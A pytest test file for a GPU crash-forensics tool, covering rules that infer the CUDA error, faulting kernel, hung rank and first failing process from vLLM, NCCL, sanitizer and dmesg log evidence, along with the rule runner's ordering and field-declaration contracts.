"""The rule pipeline, rule by rule, on hand-built evidence; and the runner's contract.

Every rule of ``forensics.rules.PIPELINE`` has a positive case (its predicate holds and
its action writes what it declares) and a negative one (unrelated evidence: the predicate
is false, or the action leaves its fields empty).  ``test_every_rule_is_tested_here``
fails when a rule is added to the pipeline without tests in this file.

The runner: declared order (a rule that reads what a later rule writes is refused at
start-up), declared writes and reads (refused, never swallowed), and a rule that raises
becomes a line of the verdict's ``rule_failures`` while the other rules' verdict stands.
"""

from __future__ import annotations

import dataclasses
from datetime import datetime, timedelta

import pytest
from click.testing import CliRunner

from forensics import kb, knowledge
from forensics.cli import main
from forensics.events import Frame, Kind, PyException, Severity, freeze
from forensics.rules import PIPELINE, Evidence, SourceFacts
from forensics.rules.advice import GraphReplay, Headline, NextSteps, Signature, serve_command
from forensics.rules.base import VERDICT_FIELDS, Draft, Rule, RuleContractError, VerdictView, check_order, run
from forensics.rules.capture import StepsInFlight
from forensics.rules.checklist import Checklist
from forensics.rules.environment import Environment
from forensics.rules.errors import ReportedError, SurfacePoints
from forensics.rules.failure import CollectiveHang, FirstFailureRule, RankStatuses
from forensics.rules.hardware import HardwareOrSoftware
from forensics.rules.known_issues import KnownIssues
from forensics.rules.origin import DeviceOrigin
from forensics.timeline import ProcessTable
from forensics.verdict import (Check, Confidence, ErrorInfo, FailureKind, FirstFailure, Hang, KnownIssueMatch,
                               Origin, RankVerdict, Status, Surface, Verdict)
from tests.helpers import event, evidence_of, run_rules

T0 = datetime(2026, 3, 14, 9, 20, 0)
ILLEGAL_ADDRESS = knowledge.lookup_error("CUDA_ERROR_ILLEGAL_ADDRESS")
LAUNCH_FAILED = knowledge.lookup_error("CUDA_ERROR_LAUNCH_FAILED")
CUBLAS_FAILED = knowledge.lookup_error("CUBLAS_STATUS_EXECUTION_FAILED")
NOT_READY = knowledge.lookup_error("cudaErrorNotReady")

TESTED: set[str] = set()


def covers(rule: type[Rule]):
    """Marks a test as covering ``rule`` (test_every_rule_is_tested_here reads it)."""
    TESTED.add(rule.name)
    return lambda fn: fn


def at(seconds: float) -> datetime:
    return T0 + timedelta(seconds=seconds)


def apply(rule_class: type[Rule], evidence: Evidence, **preset):
    """One rule on its own: the draft holds ``preset`` (what earlier rules wrote), the rule
    runs behind its VerdictView.  Returns (predicate result, draft)."""
    draft = Draft()
    for name, value in preset.items():
        assert name in draft.values, name
        draft.values[name] = value
    rule = rule_class()
    view = VerdictView(draft, rule)
    fired = rule.predicate(evidence, view)
    if fired:
        rule.action(evidence, view)
    return fired, draft


def worker(r: int, kind: Kind, message: str, *, t: float = 0.0, line: int = 50, base_pid: int = 100, **attrs):
    return event(kind, message, pid=base_pid + r, process=f"Worker_TP{r}", time=at(t), line=line, **attrs)


def cuda_error(r: int, err=ILLEGAL_ADDRESS, *, t: float = 0.0, line: int = 50, frames=(), **attrs):
    chain = (PyException("torch.AcceleratorError", f"CUDA error: {err.message}", frames=tuple(frames)),) if frames else None
    return worker(r, Kind.CUDA_ERROR, f"torch.AcceleratorError: CUDA error: {err.message}", t=t, line=line,
                  cuda_error=err, chain=chain, **attrs)


def surface(rank=2, pid=102, *, file="/srv/app/runner.py", line=88, function="step", api="Tensor.tolist",
            replay=False) -> Surface:
    return Surface(rank=rank, pid=pid, api=api, file=file, line=line, function=function, time=at(0),
                   source="server.log:40", exception="torch.AcceleratorError: CUDA error: ...",
                   error_code=700, error_name="CUDA_ERROR_ILLEGAL_ADDRESS", how="raised", site_kind="python",
                   graph_replay=replay)


def origin(rank=2, pid=102, kernel="paged_kv_scatter_kernel", fault="Invalid __global__ write of size 8 bytes",
           confidence=Confidence.HIGH) -> Origin:
    return Origin(rank=rank, pid=pid, kernel=kernel, fault=fault, address="0x7f21c0000040", evidence=(),
                  confidence=confidence)


def with_attrs(e, **attrs):
    return dataclasses.replace(e, attrs=freeze({**e.attrs, **attrs}))


def ids(ranks=range(4), base_pid=100):
    out = []
    for r in ranks:
        e = event(Kind.PROCESS_IDENTITY, f"world_size={len(ranks)} rank={r} local_rank={r} backend=nccl",
                  pid=base_pid + r, process=f"Worker_TP{r}", line=r + 1, time=T0, severity=Severity.INFO,
                  world_size=len(ranks), message_id="dist-init")
        out.append(with_attrs(e, rank=r))          # "rank" is also event()'s own keyword
    return out


# --- the pipeline as a whole ---------------------------------------------------------------

def test_every_rule_is_tested_here():
    assert {rule.name for rule in PIPELINE} <= TESTED, "add unit tests for the new rule(s) to tests/test_rules.py"


def test_the_pipeline_passes_its_own_order_check():
    check_order(PIPELINE)           # raises RuleContractError when out of order


def test_every_rule_documents_itself_and_has_a_unique_name():
    names = [rule.name for rule in PIPELINE]
    assert len(set(names)) == len(names)
    for rule in PIPELINE:
        assert rule.name != Rule.name
        assert rule.__doc__ and rule.__doc__ is not Rule.__doc__, rule.name
        assert len(rule.doc().split()) >= 12, f"{rule.name}: say what it concludes and from what"


def test_every_verdict_field_has_exactly_one_writer():
    writers: dict[str, list[str]] = {}
    for rule in PIPELINE:
        for name in rule.writes:
            writers.setdefault(name, []).append(rule.name)
    # notes come from any rule through VerdictView.note, not as a declared field
    assert set(writers) == set(VERDICT_FIELDS) - {"notes"}
    assert all(len(w) == 1 for w in writers.values()), writers


def test_declared_fields_exist_on_the_verdict():
    for rule in PIPELINE:
        assert set(rule.reads) | set(rule.writes) <= set(VERDICT_FIELDS), rule.name


# --- the order check -----------------------------------------------------------------------

class _WritesOrigin(Rule):
    """Writes origin (a test rule)."""
    name = "test-writes-origin"
    writes = ("origin",)

    def action(self, evidence, verdict):
        verdict.origin = origin()


class _ReadsOrigin(Rule):
    """Reads origin, writes the headline (a test rule)."""
    name = "test-reads-origin"
    reads = ("origin",)
    writes = ("headline",)

    def action(self, evidence, verdict):
        verdict.headline = f"kernel {verdict.origin.kernel}" if verdict.origin else "none"


def test_a_rule_reading_what_a_later_rule_writes_is_refused():
    with pytest.raises(RuleContractError, match="test-reads-origin reads 'origin'.*test-writes-origin"):
        check_order([_ReadsOrigin, _WritesOrigin])
    check_order([_WritesOrigin, _ReadsOrigin])          # the right order passes


def test_the_pipeline_is_checked_when_forensics_rules_is_imported(monkeypatch):
    import importlib

    import forensics.rules as rules_module
    from forensics.rules import base
    checked = []
    real = base.check_order
    monkeypatch.setattr(base, "check_order", lambda pipeline: (checked.append(tuple(pipeline)), real(pipeline)))
    try:
        importlib.reload(rules_module)
        assert checked == [PIPELINE]
        # a rule that reads what a later rule writes: the import itself fails
        monkeypatch.setattr(Signature, "reads", Signature.reads + ("headline",))
        with pytest.raises(RuleContractError, match="signature reads 'headline'.*headline"):
            importlib.reload(rules_module)
    finally:
        monkeypatch.undo()
        importlib.reload(rules_module)
    assert rules_module.PIPELINE == PIPELINE and rules_module.check_order is real


def test_the_real_pipeline_reversed_is_refused():
    with pytest.raises(RuleContractError, match="put the writer first"):
        check_order(tuple(reversed(PIPELINE)))


def test_moving_one_real_rule_before_its_input_is_refused():
    # the signature reads the origin: put it before DeviceOrigin
    broken = [r for r in PIPELINE if r is not Signature]
    broken.insert(broken.index(DeviceOrigin), Signature)
    with pytest.raises(RuleContractError, match="signature reads 'origin'"):
        check_order(broken)


def test_two_writers_of_one_field_are_refused():
    class Other(_WritesOrigin):
        """Also writes origin."""
        name = "test-other-origin"
    with pytest.raises(RuleContractError, match="both write 'origin'"):
        check_order([_WritesOrigin, Other])


def test_a_field_the_verdict_does_not_have_is_refused():
    class Typo(Rule):
        """Writes a misspelt field."""
        name = "test-typo"
        writes = ("orgin",)
    with pytest.raises(RuleContractError, match="'orgin', which is not a verdict field"):
        check_order([Typo])


# --- the guarded runner --------------------------------------------------------------------

class _Raises(Rule):
    """Always raises (a test rule)."""
    name = "test-raises"
    writes = ("summary",)

    def action(self, evidence, verdict):
        raise ZeroDivisionError("division by zero in a rule")


def test_a_rule_that_raises_becomes_a_rule_failure_not_a_crash():
    evidence = evidence_of([event(Kind.LOG, "hello", severity=Severity.INFO)])
    verdict = run([_WritesOrigin, _Raises, _ReadsOrigin], evidence)
    assert isinstance(verdict, Verdict)
    (failure,) = verdict.rule_failures
    assert "test-raises" in failure and "ZeroDivisionError" in failure and "division by zero" in failure
    # the rules before and after it still concluded
    assert verdict.origin == origin()
    assert verdict.headline == "kernel paged_kv_scatter_kernel"
    assert verdict.summary == ""          # the broken rule's field stays at its default


def test_a_raising_rule_in_the_real_pipeline_leaves_the_rest_of_the_verdict(monkeypatch):
    def boom(self, evidence, verdict):
        raise RuntimeError("checklist exploded")
    monkeypatch.setattr(Checklist, "action", boom)
    evidence = evidence_of(ids(range(2)) + [cuda_error(1, t=3)])
    verdict = run(PIPELINE, evidence)
    assert any("checklist" in f and "checklist exploded" in f for f in verdict.rule_failures)
    assert verdict.checklist == ()
    assert verdict.error.name == "CUDA_ERROR_ILLEGAL_ADDRESS"
    assert verdict.first_failure.rank == 1
    assert "CUDA_ERROR_ILLEGAL_ADDRESS" in verdict.headline


def test_a_predicate_that_raises_is_guarded_too():
    class BadPredicate(_WritesOrigin):
        """Predicate raises."""
        name = "test-bad-predicate"

        def predicate(self, evidence, verdict):
            raise KeyError("missing")
    verdict = run([BadPredicate, _ReadsOrigin], evidence_of([]))
    assert len(verdict.rule_failures) == 1 and "test-bad-predicate" in verdict.rule_failures[0]
    assert verdict.headline == "none"


def test_writing_an_undeclared_field_is_refused():
    class Sneaky(Rule):
        """Writes the headline without declaring it."""
        name = "test-sneaky"
        reads = ("headline",)

        def action(self, evidence, verdict):
            verdict.headline = "sneaked in"
    with pytest.raises(RuleContractError, match="test-sneaky writes 'headline' without declaring it"):
        run([Sneaky], evidence_of([]))


def test_reading_an_undeclared_field_is_refused():
    class Nosy(Rule):
        """Reads the origin without declaring it."""
        name = "test-nosy"
        writes = ("headline",)

        def action(self, evidence, verdict):
            verdict.headline = str(verdict.origin)
    with pytest.raises(RuleContractError, match="test-nosy reads 'origin' without declaring it"):
        run([Nosy], evidence_of([]))


@pytest.mark.parametrize("rule_class", PIPELINE, ids=lambda r: r.name)
def test_each_rule_changes_only_the_fields_it_declares(rule_class):
    # a rich evidence: a sticky error on rank 2, its peers' relays, an Xid, an HTTP 500
    events = ids() + [
        event(Kind.CONFIG, "Initializing a V1 LLM engine (v0.11.0) with config: ...", pid=90,
              process="EngineCore_DP0", message_id="engine-config", vllm_version="0.11.0",
              config={"model": "acme/chat-13b", "tensor_parallel_size": 4}, severity=Severity.INFO),
        cuda_error(2, t=1, frames=[Frame("/srv/app/runner.py", 88, "step", "ids = out.tolist()")]),
        worker(0, Kind.PEER_FAILURE, "Connection closed by peer", t=3),
        event(Kind.XID, "NVRM: Xid 31", pid=102, xid=31, source="dmesg.txt"),
        event(Kind.HTTP, '"POST /v1/completions HTTP/1.1" 500', pid=80, process="APIServer", status=500, time=at(4)),
    ]
    evidence = evidence_of(events)
    draft = Draft()
    for earlier in PIPELINE[:PIPELINE.index(rule_class)]:
        rule = earlier()
        view = VerdictView(draft, rule)
        if rule.predicate(evidence, view):
            rule.action(evidence, view)
    before = dict(draft.values)
    rule = rule_class()
    view = VerdictView(draft, rule)
    if rule.predicate(evidence, view):
        rule.action(evidence, view)
    changed = {k for k in draft.values if draft.values[k] is not before[k]}
    assert changed <= set(rule_class.writes)


def test_evidence_and_events_are_frozen():
    evidence = evidence_of([cuda_error(0)])
    with pytest.raises(dataclasses.FrozenInstanceError):
        evidence.events = ()
    with pytest.raises(TypeError):
        evidence.events[0].attrs["cuda_error"] = None


def test_draft_freeze_keeps_evidence_notes_rule_notes_and_explanations():
    class Notes(Rule):
        """Adds a note and an explanation."""
        name = "test-notes"

        def action(self, evidence, verdict):
            verdict.note("a note from a rule")
            verdict.note("a note from a rule")        # once only
            verdict.explain("why it concluded")
    evidence = Evidence(events=(), processes=ProcessTable.learn([]), notes=("server.log: 2 server starts",))
    verdict = run([Notes], evidence)
    assert verdict.notes == ("server.log: 2 server starts", "a note from a rule")
    assert verdict.explanations == (("test-notes", "why it concluded"),)


# --- forensics rules ---------------------------------------------------------------------------

def test_cli_rules_lists_every_rule_in_order_with_its_docstring():
    result = CliRunner().invoke(main, ["rules"])
    assert result.exit_code == 0, result.output
    squeezed = "".join(result.output.split())
    positions = []
    for n, rule in enumerate(PIPELINE, 1):
        heading = f"{n:2}. {rule.name}"
        assert heading in result.output
        positions.append(result.output.index(heading))
        assert "".join(rule.doc().split()) in squeezed, f"{rule.name}: docstring not shown"
        assert "".join(f"writes: {', '.join(rule.writes) or '(notes only)'}".split()) in squeezed
    assert positions == sorted(positions)
    assert "writes: (notes only)" in result.output          # GraphReplay declares no field


# --- Environment ---------------------------------------------------------------------------

@covers(Environment)
def test_environment_collects_config_facts_and_the_step_in_flight():
    events = [
        event(Kind.CONFIG, "Initializing a V1 LLM engine (v0.11.0) with config: ...", line=1, pid=90,
              message_id="engine-config", vllm_version="0.11.0", severity=Severity.INFO,
              config={"model": "acme/chat-13b", "tensor_parallel_size": "4", "max_num_batched_tokens": 2048,
                      "unrelated_key": "x"}),
        event(Kind.CONFIG, "Initializing a V1 LLM engine (v0.12.0) with config: ...", line=2, pid=91,
              message_id="engine-config", vllm_version="0.12.0", severity=Severity.INFO),
        event(Kind.ENVIRONMENT, "nvidia-smi", source="env/nvidia-smi.txt", line=3,
              facts={"gpu": "NVIDIA H200", "driver": "570.124.06"}, severity=Severity.INFO),
        event(Kind.SCHEDULER_DUMP, "Dumping scheduler output ...", line=9, pid=90,
              dump={"num_computed_tokens": 4096, "num_output_tokens": 0}),
    ]
    fired, draft = apply(Environment, evidence_of(events))
    env, src = draft.values["environment"], draft.values["environment_sources"]
    assert fired
    assert env["vllm"] == "0.11.0" and src["vllm"] == "console.log:1"        # the first value seen wins
    assert env["model"] == "acme/chat-13b"
    assert env["tensor_parallel_size"] == 4                                   # int, though printed as text
    assert "unrelated_key" not in env
    assert env["gpu"] == "NVIDIA H200" and src["gpu"] == "env/nvidia-smi.txt:3"
    assert env["crash_num_computed_tokens"] == 4096
    # 4096 tokens done, nothing generated, 2048 per step: the third chunk of a chunked prefill
    assert env["phase"] == "chunked-prefill"
    assert env["crash_prefill_block"] == 3


@covers(Environment)
def test_environment_phase_startup_and_decode():
    startup = [event(Kind.EXCEPTION, "RuntimeError: Engine core initialization failed. See root cause above.",
                     pid=90, process="EngineCore_DP0")]
    _, draft = apply(Environment, evidence_of(startup))
    assert draft.values["environment"]["phase"] == "startup"
    decode = [event(Kind.SCHEDULER_DUMP, "Dumping", dump={"num_computed_tokens": 700, "num_output_tokens": 12})]
    _, draft = apply(Environment, evidence_of(decode))
    assert draft.values["environment"]["phase"] == "decode"


@covers(Environment)
def test_environment_is_empty_without_configuration():
    _, draft = apply(Environment, evidence_of([event(Kind.LOG, "step 3 ok", severity=Severity.INFO)]))
    assert draft.values["environment"] == {} and draft.values["environment_sources"] == {}
    assert "reveal no configuration" in draft.explanations[0][1]


# --- ReportedError -------------------------------------------------------------------------

@covers(ReportedError)
def test_reported_error_prefers_the_earliest_sticky_cuda_error():
    events = [
        worker(1, Kind.CUDA_ERROR, "cudaErrorNotReady", t=0, line=10, cuda_error=NOT_READY),
        cuda_error(2, t=1, line=20),
        cuda_error(0, LAUNCH_FAILED, t=2, line=30),
    ]
    fired, draft = apply(ReportedError, evidence_of(events))
    error = draft.values["error"]
    assert fired and isinstance(error, ErrorInfo)
    assert (error.name, error.code, error.reported_at) == ("CUDA_ERROR_ILLEGAL_ADDRESS", 700, "console.log:20")
    assert not error.relayed_only and error.cause_of is None


@covers(ReportedError)
def test_reported_error_prefers_the_plain_run_over_a_run_under_compute_sanitizer():
    under_tool = event(Kind.CUDA_ERROR, "cudaErrorLaunchFailure", source="sanitizer_run.log", line=3,
                       cuda_error=LAUNCH_FAILED, pid=700)
    plain = event(Kind.CUDA_ERROR, "CUDA error: an illegal memory access", source="plain_run.log", line=9,
                  cuda_error=ILLEGAL_ADDRESS, pid=800)
    sources = (SourceFacts("sanitizer_run.log", "text", ("compute-sanitizer",), under_tool=True),
               SourceFacts("plain_run.log", "text", ("vllm",)))
    _, draft = apply(ReportedError, evidence_of([under_tool, plain], sources=sources))
    assert draft.values["error"].code == 700 and draft.values["error"].reported_at == "plain_run.log:9"


@covers(ReportedError)
def test_reported_error_from_a_relay_only_when_nothing_better():
    relay = event(Kind.ENGINE_WORKER_FAILED, "Worker failed with error 'CUDA error: an illegal memory access ...'",
                  pid=90, process="EngineCore_DP0", cuda_error=ILLEGAL_ADDRESS)
    _, draft = apply(ReportedError, evidence_of([relay]))
    assert draft.values["error"].relayed_only
    _, draft = apply(ReportedError, evidence_of([relay, cuda_error(3, line=90)]))
    assert not draft.values["error"].relayed_only and draft.values["error"].reported_at == "console.log:90"


@covers(ReportedError)
def test_reported_error_ignores_torch_oom_and_unrelated_lines():
    oom = worker(0, Kind.OOM, "torch.OutOfMemoryError: CUDA out of memory.", error_form="torch-oom",
                 cuda_error=knowledge.lookup_error("CUDA_ERROR_OUT_OF_MEMORY"))
    _, draft = apply(ReportedError, evidence_of([oom, event(Kind.LOG, "ok", severity=Severity.INFO)]))
    assert draft.values["error"] is None
    assert "No CUDA error is reported" in draft.explanations[0][1]


@covers(ReportedError)
def test_a_cublas_status_alone_is_the_error_reported():
    events = [event(Kind.DEVICE_ASSERT, "Indexing.cu:1237: indexSelectSmallIndex: ... Assertion failed.", line=1,
                    function="indexSelectSmallIndex", file="Indexing.cu", line_no=1237),
              event(Kind.CUDA_ERROR, "RuntimeError: CUDA error: CUBLAS_STATUS_EXECUTION_FAILED when calling "
                    "`cublasGemmEx(...)`", line=5, cuda_error=CUBLAS_FAILED)]
    _, draft = apply(ReportedError, evidence_of(events))
    assert draft.values["error"].name == "CUBLAS_STATUS_EXECUTION_FAILED"


@covers(ReportedError)
def test_a_cublas_status_with_a_cuda_error_is_where_the_error_surfaced():
    events = [event(Kind.CUDA_ERROR, "RuntimeError: CUDA error: CUBLAS_STATUS_EXECUTION_FAILED when calling "
                    "`cublasGemmEx(...)`", line=5, cuda_error=CUBLAS_FAILED),
              event(Kind.CUDA_ERROR, "RuntimeError: CUDA error: device-side assert triggered", line=12,
                    cuda_error=knowledge.lookup_error("CUDA_ERROR_ASSERT"))]
    _, draft = apply(ReportedError, evidence_of(events))
    error = draft.values["error"]
    assert error.name == "CUDA_ERROR_ASSERT"
    assert error.cause_of == "CUBLAS_STATUS_EXECUTION_FAILED"


# --- SurfacePoints -------------------------------------------------------------------------

@covers(SurfacePoints)
def test_surface_points_one_per_process_innermost_frame_and_its_caller():
    frames = [Frame("/srv/app/server.py", 40, "serve", "self.step()"),
              Frame("/srv/app/runner.py", 88, "step", "ids = out.tolist()"),
              Frame("/usr/lib/python3.12/site-packages/torch/_tensor.py", 1100, "tolist", "return x")]
    events = ids() + [cuda_error(2, t=1, line=20, frames=frames),
                      cuda_error(2, t=2, line=25, frames=frames),           # the same process again
                      cuda_error(0, t=4, line=30, frames=[Frame("/srv/app/runner.py", 120, "sync",
                                                                "torch.cuda.synchronize()")])]
    evidence = evidence_of(events)
    _, draft = apply(ReportedError, evidence)
    fired, draft = apply(SurfacePoints, evidence, error=draft.values["error"])
    surfaces = draft.values["surfaces"]
    assert fired and len(surfaces) == 2
    first, second = surfaces                                    # ordered by time
    # the innermost frame, in torch's own file; the program's line that called it beside it
    assert (first.rank, first.pid, first.file, first.line, first.function) == \
        (2, 102, "/usr/lib/python3.12/site-packages/torch/_tensor.py", 1100, "tolist")
    assert first.caller == "runner.py:88 in step"
    assert first.api == "Tensor.tolist" and first.error_code == 700 and first.how == "raised"
    assert (second.rank, second.api, second.line, second.caller) == (0, "torch.cuda.synchronize", 120, None)


@covers(SurfacePoints)
def test_surface_in_a_cuda_graph_replay_is_marked():
    frames = [Frame("/srv/app/runner.py", 88, "step", "self.graph.replay()"),
              Frame("/usr/lib/python3.12/site-packages/torch/cuda/graphs.py", 88, "replay", "super().replay()")]
    evidence = evidence_of([cuda_error(1, frames=frames)])
    _, draft = apply(SurfacePoints, evidence, error=ErrorInfo(ILLEGAL_ADDRESS, "console.log:50"))
    (s,) = draft.values["surfaces"]
    assert s.graph_replay and s.function == "replay" and s.caller == "runner.py:88 in step"


@covers(SurfacePoints)
def test_no_surface_without_a_report_of_its_own():
    evidence = evidence_of(ids() + [worker(0, Kind.PEER_FAILURE, "Connection closed by peer", t=3)])
    _, draft = apply(SurfacePoints, evidence)
    assert draft.values["surfaces"] == ()


# --- DeviceOrigin --------------------------------------------------------------------------

def sanitizer(kernel="paged_kv_scatter_kernel<__nv_bfloat16, 128>", *, pid=None, report="access", source="cs.log"):
    return event(Kind.SANITIZER, "Invalid __global__ write of size 8 bytes", source=source, pid=pid, report=report,
                 kernel=kernel, fault="Invalid __global__ write of size 8 bytes", address="0x7f21c0000040",
                 address_note="is out of bounds")


@covers(DeviceOrigin)
def test_device_origin_from_a_sanitizer_report_joined_by_the_xid_pid():
    events = ids() + [cuda_error(2, t=1), sanitizer(),
                      event(Kind.XID, "NVRM: Xid (PCI:0000:5e:00): 31, pid=102", source="dmesg.txt", pid=102, xid=31)]
    fired, draft = apply(DeviceOrigin, evidence_of(events))
    o = draft.values["origin"]
    assert fired and o.kernel == "paged_kv_scatter_kernel<__nv_bfloat16, 128>"
    assert (o.rank, o.pid) == (2, 102) and o.confidence == Confidence.HIGH
    assert o.fault == "Invalid __global__ write of size 8 bytes: address is out of bounds"
    assert o.address == "0x7f21c0000040"
    assert {ref.kind for ref in o.evidence} == {"compute-sanitizer", "xid"}


@covers(DeviceOrigin)
def test_device_origin_from_an_xid_alone_names_the_rank_not_the_kernel():
    events = ids() + [event(Kind.XID, "NVRM: Xid (PCI:0000:5e:00): 31, pid=103", source="dmesg.txt", pid=103,
                            xid=31, access="WRITE", address="0x7f21c0000000")]
    _, draft = apply(DeviceOrigin, evidence_of(events))
    o = draft.values["origin"]
    assert o.kernel is None and (o.rank, o.pid) == (3, 103)
    assert o.confidence == Confidence.MEDIUM
    assert o.fault.startswith("Xid 31") and "write access" in o.fault


@covers(DeviceOrigin)
def test_device_origin_joined_by_the_only_reporter_is_medium_confidence():
    fired, draft = apply(DeviceOrigin, evidence_of(ids() + [cuda_error(1), sanitizer()]),
                         surfaces=(surface(rank=1, pid=101),))
    o = draft.values["origin"]
    assert (o.rank, o.pid, o.confidence) == (1, 101, Confidence.MEDIUM)
    assert any("only process that reported" in n for n in o.notes)


@covers(DeviceOrigin)
def test_device_origin_tools_disagreeing_on_the_kernel_lower_the_confidence():
    gdb = event(Kind.CUDA_GDB, "CUDA Exception: Warp Illegal Address", source="cuda-gdb.txt", pid=102,
                kernel="rms_norm_kernel", fault="Warp Illegal Address")
    _, draft = apply(DeviceOrigin, evidence_of(ids() + [sanitizer(pid=102), gdb]))
    o = draft.values["origin"]
    assert o.confidence == Confidence.MEDIUM
    assert any(" kernels: " in n and "rms_norm_kernel" in n for n in o.notes)


@covers(DeviceOrigin)
def test_device_origin_an_xid_naming_another_pid_gives_low_confidence():
    events = ids() + [sanitizer(pid=102), event(Kind.XID, "NVRM: Xid 31, pid=100", source="dmesg.txt", pid=100, xid=31)]
    _, draft = apply(DeviceOrigin, evidence_of(events))
    o = draft.values["origin"]
    assert o.rank == 2 and o.confidence == Confidence.LOW
    assert any("an Xid names pid 100" in n for n in o.notes)


@covers(DeviceOrigin)
def test_device_origin_from_a_device_assert_and_from_core_dump_progress_lines():
    assert_line = worker(1, Kind.DEVICE_ASSERT, "Indexing.cu:1237: indexSelectSmallIndex: block: [7,0,0] ... failed.",
                         function="indexSelectSmallIndex", file="/opt/pytorch/Indexing.cu", condition="srcIndex < n")
    _, draft = apply(DeviceOrigin, evidence_of(ids() + [assert_line]))
    o = draft.values["origin"]
    assert (o.kernel, o.rank, o.confidence) == ("indexSelectSmallIndex", 1, Confidence.HIGH)
    assert "device-side assert `srcIndex < n`" in o.fault

    progress = [worker(3, Kind.CORE_DUMP, "coredump: Detected an exception of type CUDBG_EXCEPTION_WARP_ILLEGAL_ADDRESS",
                       line=60, message_id="coredump-exception", exception="CUDBG_EXCEPTION_WARP_ILLEGAL_ADDRESS"),
                worker(3, Kind.CORE_DUMP, "coredump:   #0 0x7f0a877a1b20 fused_moe_kernel", line=61,
                       message_id="coredump-frame", frame=0, function="fused_moe_kernel")]
    _, draft = apply(DeviceOrigin, evidence_of(ids() + progress))
    o = draft.values["origin"]
    assert (o.kernel, o.rank, o.pid, o.fault) == ("fused_moe_kernel", 3, 103, "Warp Illegal Address")


@covers(DeviceOrigin)
def test_no_device_evidence_no_origin():
    # a kernel named by an ordinary log line, a race report and a hardware Xid are no origin
    events = ids() + [cuda_error(2), event(Kind.LOG, "Using paged_kv_scatter_kernel", severity=Severity.INFO),
                      event(Kind.XID, "NVRM: Xid 79, GPU has fallen off the bus", pid=102, xid=79)]
    _, draft = apply(DeviceOrigin, evidence_of(events))
    assert draft.values["origin"] is None
    assert "faulting kernel is unknown" in draft.explanations[0][1]


# --- CollectiveHang ------------------------------------------------------------------------

def timeout(r: int, seq: int = 1042, *, t: float = 600.0):
    e = worker(r, Kind.COLLECTIVE_TIMEOUT, f"Watchdog caught collective operation timeout: WorkNCCL(SeqNum={seq}, "
               "OpType=ALLREDUCE, ...)", t=t, line=200 + r, op="ALLREDUCE", message_id="nccl-watchdog-timeout")
    return with_attrs(e, seq=seq)           # "seq" is also event()'s own keyword (position in the source)


@covers(CollectiveHang)
def test_hang_names_the_rank_that_never_reported_the_timeout():
    dump = worker(2, Kind.STACK_DUMP, "py-spy dump --pid 102", t=610, line=300, tool="py-spy",
                  current_thread={"frames": (Frame("/srv/app/loader.py", 77, "read_batch", None),
                                             Frame("/srv/app/loop.py", 12, "run", None))})
    evidence = evidence_of(ids() + [timeout(0), timeout(1), timeout(3), dump])
    fired, draft = apply(CollectiveHang, evidence, environment={"tensor_parallel_size": 4})
    hang = draft.values["hang"]
    assert fired and isinstance(hang, Hang)
    assert (hang.collective, hang.seq, hang.waited, hang.suspects) == ("ALLREDUCE", 1042, (0, 1, 3), (2,))
    assert hang.culprit_doing == "blocked in read_batch (/srv/app/loader.py:77)"


@covers(CollectiveHang)
def test_hang_a_rank_behind_in_sequence_numbers_is_the_suspect():
    evidence = evidence_of(ids() + [timeout(0, 88), timeout(1, 88), timeout(2, 87), timeout(3, 88)])
    _, draft = apply(CollectiveHang, evidence, environment={})
    assert draft.values["hang"].suspects == (2,) and draft.values["hang"].seq == 88


@covers(CollectiveHang)
def test_hang_every_rank_timed_out_in_the_same_collective_names_nobody():
    evidence = evidence_of(ids() + [timeout(r) for r in range(4)])
    _, draft = apply(CollectiveHang, evidence, environment={})
    assert draft.values["hang"].waited == (0, 1, 2, 3) and draft.values["hang"].suspects == ()


@covers(CollectiveHang)
def test_not_a_hang_when_a_rank_failed_on_its_own_or_nothing_timed_out():
    fired, draft = apply(CollectiveHang, evidence_of(ids() + [cuda_error(2, t=1), timeout(0), timeout(1)]),
                         environment={})
    assert not fired and draft.values["hang"] is None
    fired, _ = apply(CollectiveHang, evidence_of(ids() + [worker(0, Kind.PEER_FAILURE, "peer closed")]),
                     environment={})
    assert not fired


@covers(CollectiveHang)
def test_a_watchdog_abort_that_quotes_the_timeout_is_part_of_the_hang():
    abort = event(Kind.FATAL_SIGNAL, "terminate called after throwing an instance of 'c10::DistBackendError'",
                  time=at(601), line=250, signal_name="SIGABRT", cxx_type="c10::DistBackendError",
                  what="[PG ID 0 PG GUID 0 Rank 0] Watchdog caught collective operation timeout: WorkNCCL(...)")
    fired, draft = apply(CollectiveHang, evidence_of(ids() + [timeout(0), timeout(1), timeout(3), abort]),
                         environment={})
    assert fired and draft.values["hang"].suspects == (2,)


@covers(CollectiveHang)
def test_a_watchdog_abort_after_the_timeouts_without_its_what_line_is_part_of_the_hang():
    abort = event(Kind.FATAL_SIGNAL, "terminate called after throwing c10::DistBackendError", time=at(601),
                  line=250, signal_name="SIGABRT", cxx_type="c10::DistBackendError", crash="cxx-exception")
    fired, draft = apply(CollectiveHang, evidence_of(ids() + [timeout(0), timeout(1), timeout(3), abort]),
                         environment={})
    assert fired and draft.values["hang"].suspects == (2,)


# --- FirstFailureRule ----------------------------------------------------------------------

@covers(FirstFailureRule)
def test_first_failure_is_the_origin_when_device_evidence_names_it():
    evidence = evidence_of(ids() + [cuda_error(0, t=0), cuda_error(2, t=3)])      # rank 0 reported first ...
    fired, draft = apply(FirstFailureRule, evidence, origin=origin(rank=2, pid=102), environment={},
                         error=ErrorInfo(ILLEGAL_ADDRESS, "x"))
    first = draft.values["first_failure"]
    assert fired and (first.rank, first.pid) == (2, 102)                         # ... but rank 2's kernel faulted
    assert first.basis.startswith("origin evidence") and "paged_kv_scatter_kernel" in first.what
    assert first.time == at(3)
    assert draft.values["failure_kind"] == FailureKind.CUDA_ERROR


@covers(FirstFailureRule)
def test_first_failure_is_the_earliest_own_failure_not_a_relay():
    events = ids() + [worker(0, Kind.PEER_FAILURE, "Connection closed by peer", t=-5, line=10),   # a relay, earlier
                      cuda_error(2, t=0, line=20), cuda_error(3, t=4, line=30)]
    _, draft = apply(FirstFailureRule, evidence_of(events), environment={}, error=ErrorInfo(ILLEGAL_ADDRESS, "x"))
    first = draft.values["first_failure"]
    assert (first.rank, first.pid, first.time) == (2, 102, at(0))
    assert "rank 3 failed later" in first.basis
    assert draft.values["failure_kind"] == FailureKind.CUDA_ERROR


@covers(FirstFailureRule)
def test_first_failure_same_second_reports_are_a_tie():
    events = ids() + [cuda_error(1, t=0, line=20), cuda_error(3, t=0, line=21)]
    _, draft = apply(FirstFailureRule, evidence_of(events), environment={}, error=ErrorInfo(ILLEGAL_ADDRESS, "x"))
    first = draft.values["first_failure"]
    assert first.rank is None and first.pid is None
